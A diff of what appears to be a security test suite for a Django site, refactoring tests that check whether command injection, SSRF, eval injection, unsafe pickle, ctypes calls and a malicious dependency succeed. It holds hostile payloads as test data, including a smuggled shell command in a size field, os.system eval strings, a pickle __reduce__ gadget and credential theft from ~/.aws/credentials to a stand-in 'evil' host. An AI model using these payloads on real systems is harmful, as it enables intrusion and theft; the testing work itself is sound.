@@ -8,6 +8,7 @@ import shutil
 import subprocess
 import zipfile
 
+from attackers import Bomb
 import stage
 
 MEMBERS = ["anna", "ben", "carla", "dmitri", "Hans Peter", "ines-lu",
@@ -29,14 +30,6 @@ SLUGS_NEW = {
     "table.json": '{"ä": "ae", "ö": "oe", ".": "-"}\n',
 }
 PHOTO = b"\x89PNG" + b"photo" * 40
-
-
-class Bomb:
-    def __init__(self, *call):
-        self.call = call
-
-    def __reduce__(self):
-        return self.call[0], self.call[1:]
 
 
 def archive(**members):
@@ -215,10 +208,8 @@ class DjangoSite(stage.Service):
     @stage.attack("command injection")
     def size_runs_a_command(self):
         browser, at = self.share("anna", "main", "x.png")
-        marker = self.marker("shell")
-        browser.get("/thumbnail", name=at,
-                    size=f"1 /dev/null; id > {marker}; head -c 9")
-        return marker.exists()
+        return self.runs_line(lambda line: browser.get(
+            "/thumbnail", name=at, size=f"1 /dev/null; {line}; head -c 9"))
 
     @stage.attack("argument injection", fresh=True)
     def key_writes_another_file(self):
@@ -228,11 +219,9 @@ class DjangoSite(stage.Service):
 
     @stage.attack("SSRF")
     def avatar_is_an_internal_service(self):
-        self.site("internal").page("*", stage.SECRET)
         browser, _ = self.share("anna", "main", "x.png")
-        answer = browser.post(
-            "/avatar", url=self.site("internal").url + "/latest/meta-data/")
-        return stage.SECRET.encode() in answer[1]
+        return self.fetches_inside(
+            lambda url: browser.post("/avatar", url=url))
 
     @stage.attack("secret disclosure")
     def avatar_is_a_local_file(self):
@@ -243,9 +232,8 @@ class DjangoSite(stage.Service):
 
     @stage.attack("eval injection")
     def formula_runs_a_command(self):
-        marker = self.marker("eval")
-        self.evaluates(f"__import__('os').system('id > {marker}')")
-        return marker.exists()
+        return self.runs_line(lambda line: self.evaluates(
+            f"__import__('os').system('{line}')"))
 
     @stage.attack("eval injection")
     def formula_reads_a_password(self):
@@ -253,23 +241,15 @@ class DjangoSite(stage.Service):
 
     @stage.attack("fork+exec")
     def formula_forks_and_execs(self):
-        marker = self.marker("fork")
-        code = stage.FORK_AND_EXEC.format(line=f"id > {marker}")
-        self.evaluates(f"exec({code!r})")
-        return self.happens(marker.exists)
+        return self.forks(lambda code: self.evaluates(f"exec({code!r})"))
 
     @stage.attack("ctypes")
     def formula_calls_libc(self):
-        marker = self.marker("ctypes")
-        self.evaluates("__import__('ctypes').CDLL(None).system("
-                       f"b'id > {marker}')")
-        return marker.exists()
+        return self.runs_libc(self.evaluates)
 
     @stage.attack("unsafe pickle")
     def preferences_run_a_command(self):
-        marker = self.marker("pickle")
-        self.explodes(os.system, f"id > {marker}")
-        return marker.exists()
+        return self.runs_line(lambda line: self.explodes(os.system, line))
 
     @stage.attack("reverse shell")
     def preferences_call_home(self):
@@ -289,12 +269,8 @@ class DjangoSite(stage.Service):
 
     @stage.attack("malicious dependency", fresh=True)
     def slugs_steals_credentials(self):
-        evil = self.site("evil")
-        evil.page("*", b"")
-        self.halt()
-        self.install("slugs", "1.2.1", {**SLUGS, "words.py": (
-            stage.THEFT.format(url=evil.url, file="~/.aws/credentials")
-            + SLUGS["words.py"])})
-        self.start()
-        self.browser().get("/")
-        return evil.heard(stage.SECRET)
+        def use():
+            self.restart()
+            self.browser().get("/")
+        return self.dependency_steals("slugs", "1.2.1", SLUGS, use,
+                                      module="words.py")
